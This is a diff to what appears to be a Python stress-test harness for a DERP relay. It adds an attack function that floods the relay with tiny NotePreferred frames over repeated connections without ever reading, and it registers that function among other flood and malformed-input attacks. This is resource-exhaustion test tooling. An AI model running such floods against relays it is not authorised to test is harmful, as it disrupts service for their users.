@@ -1783,6 +1783,27 @@ async def attack_derp_malformed(ctx: Ctx) -> list[dict[str, Any]]:
     return rows
 
 
+async def attack_derp_tiny_frames(ctx: Ctx) -> list[dict[str, Any]]:
+    """After login, NotePreferred frames (6 bytes each) as fast as the socket
+    takes them for 5 s, never reading; a new connection every 15 s. Each read
+    the relay makes holds tens of thousands of frames."""
+    frame = encode_frame(FrameType.NOTE_PREFERRED, b"\x01") + encode_frame(FrameType.NOTE_PREFERRED, b"\x00")
+    res: list[str] = []
+    total = 0
+    while ctx.left() > 8 and len(res) < 4:
+        t_round = time.time()
+        r, _ = await derp_raw_login(ctx.port, PrivateKey.generate(), rcvbuf=4096)
+        sent, how = await r.push(frame, limit=1 << 30, stall=2.0, until=min(ctx.deadline, time.time() + 5))
+        total += sent
+        res.append(f"{sent / 1e6:.0f} MB ({how}), then {'closed' if r.peer_closed() else 'open'}")
+        ctx.log("derp-tiny-frames", res[-1])
+        r.close(rst=True)
+        await asyncio.sleep(max(0.0, 15.0 - (time.time() - t_round)))
+    return [outcome("derp-tiny-frames", "embedded relay (/derp)",
+                    f"{len(res)} connections × 5 s of NotePreferred frames ({total / 6e6:.1f} M frames)",
+                    summarize(res, 2), None)]
+
+
 # ---------------------------------------------------------------- runner
 
 ATTACKS: dict[str, tuple[str, Callable[[Ctx], Awaitable[list[dict[str, Any]]]]]] = {
@@ -1804,6 +1825,7 @@ ATTACKS: dict[str, tuple[str, Callable[[Ctx], Awaitable[list[dict[str, Any]]]]]]
     "derp-ws-ping-flood": ("derp", attack_derp_ws_ping_flood),
     "derp-nested-clientinfo": ("derp", attack_derp_nested_clientinfo),
     "derp-malformed": ("derp", attack_derp_malformed),
+    "derp-tiny-frames": ("derp", attack_derp_tiny_frames),
 }
 
 
